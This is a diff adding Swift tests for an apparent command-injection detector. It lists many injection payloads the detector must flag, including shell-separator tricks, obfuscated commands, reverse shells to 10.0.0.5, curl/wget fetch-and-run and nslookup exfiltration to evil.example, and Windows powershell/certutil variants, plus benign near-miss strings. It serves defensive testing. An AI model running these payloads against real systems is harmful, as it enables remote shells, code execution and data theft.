@@ -1,0 +1,70 @@
+import GuardInspect
+import Testing
+
+/// Command injection written for these tests from the technique families (separators,
+/// substitutions, blank tricks, quoting, globbing, redirections, Windows shells), not
+/// taken from the corpus. Each must be flagged as cmdi; the near misses must stay clean.
+@Suite struct ShellVariantTests {
+    static func classes(_ payload: String) -> Set<DetectorClass> {
+        Set(Inspector().inspect(payload: payload, location: "/queryStringParameters/host").findings.map(\.detectorClass))
+    }
+
+    static let attacks: [String] = [
+        // separators
+        "example.org;id", "example.org; id;", "example.org|id", "example.org || id", "example.org && id",
+        "example.org & whoami &", "example.org\nid", "example.org\r\nuname -a", "10.1.1.1%0aid", "10.1.1.1%0d%0aid",
+        "example.org;uname\t-a", "x;  /usr/bin/id", "x | /bin/hostname", "x&&/sbin/ifconfig",
+        // substitutions
+        "$(id)", "x$(uname -a)y", "`id`", "file`whoami`.txt", "\"$(id)\"", "'`hostname`'", "a$( sleep 4 )b",
+        "$(sleep${IFS}6)", "<(id)", "x >(nc 10.2.3.4 9001)",
+        // blanks
+        ";cat${IFS}/etc/group", ";cat$IFS$9/etc/group", ";cat$IFS/etc/group", "a;sleep${IFS}7", ";ls${IFS}-al${IFS}/",
+        "x;{cat,/etc/group}", "{cat,/etc/group}", ";{ls,-al,/var}", "x;cat</etc/group", ";tail\t-n1\t/etc/group",
+        "x;IFS=,;b=cat,/etc/group;$b",
+        // quoting and escapes
+        ";c''at /etc/group", ";c\\at /etc/group", ";w'h'o'am'i", ";w\"h\"o\"am\"i", ";who$@ami", ";wh$()oami",
+        ";\\u\\n\\a\\m\\e -a", "x;\"c\"'a't /etc/group", ";who``ami", "a;un$*ame -a", ";ca$'t' /etc/group",
+        // globbing
+        "/???/c?t /???/g???p", ";/bin/c?t /etc/gr*", "x;/???/??t /e??/g???p", ";cat /e?c/gr?up", ";/usr/bin/wh?ami",
+        // redirections and writes
+        ";echo pwned > /var/www/html/p.txt", "x;id>/tmp/o", "x|tee /tmp/o", "; ls -la 2>&1", "&& cat /etc/group > out",
+        // env assignment and variables
+        ";X=id;$X", "; a=who;b=ami;$a$b", ";PATH=/tmp sh -c id", "x;${PATH:0:1}bin${PATH:0:1}id",
+        // encoded commands
+        ";echo aWQ=|base64 -d|sh", "$(echo aWQ= | base64 --decode)", ";printf '\\151\\144'|sh", ";$'\\x69\\x64'",
+        // time based
+        "x;sleep 5", "x && sleep 10 #", "x || sleep 8 ||", "'; sleep 5; '", "\"; sleep 5; \"", "|| ping -c 9 127.0.0.1",
+        "& ping -n 11 127.0.0.1 &", "x|ping${IFS}-c${IFS}3${IFS}10.0.0.1",
+        // fetch and run, reverse shells
+        ";curl -s http://evil.example/a|sh", ";wget -qO- http://evil.example/a | bash", "$(curl evil.example/x)",
+        ";nc -e /bin/sh 10.0.0.5 4444", ";bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
+        ";python3 -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"/bin/sh\"'", ";nslookup `whoami`.evil.example",
+        ";mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f",
+        // Windows
+        "& cmd /c whoami", "| cmd.exe /c dir c:\\", "%COMSPEC% /c ver", "| %ComSpec% /k whoami", "& net user",
+        "&& whoami /priv", "| type c:\\windows\\win.ini", "& powershell -enc SQBFAFgA", "| powershell -e SQBFAFgA",
+        "& powershell.exe -nop -w hidden -c whoami", "&& c^m^d /c wh^oami", "& set", "|| ping -n 5 127.0.0.1",
+        "& dir %SYSTEMROOT%", "& echo %USERNAME%", "x & timeout /t 6 &", "&& certutil -urlcache -f http://e.example/a a",
+        "& for /f %i in ('whoami') do echo %i", "127.0.0.1 & tasklist", "| findstr /s password *.txt",
+    ]
+
+    @Test(arguments: attacks)
+    func detects(_ payload: String) {
+        #expect(Self.classes(payload).contains(.cmdi), "cmdi missed: \(payload)")
+    }
+
+    static let nearMisses: [String] = [
+        "Tom & Jerry; Bugs & Daffy", "rock & roll | pop & jazz", "AT&T", "salt & pepper", "Q&A; FAQ",
+        "The cat sat on the mat", "I need to sleep; it is late", "ping me when you are ready",
+        "Who am I? A question", "price: $5 | $10", "Hello $name, welcome", "{name,age}", "{\"a\":1}",
+        "100% organic; gluten free", "date: 2024-01-02", "see /docs/install for details", "C&A sale",
+        "ls is a command; use it wisely", "Ben & Jerry's", "email me at a@b.example", "set the table",
+        "type your name", "find the best route", "echo of the past", "Press Ctrl+C to copy",
+        "x=1&y=2", "a | b | c", "R&B", "Mum & Dad; Grandma & Grandpa", "the id of the user",
+    ]
+
+    @Test(arguments: nearMisses)
+    func passes(_ payload: String) {
+        #expect(!Self.classes(payload).contains(.cmdi), "flagged: \(payload)")
+    }
+}
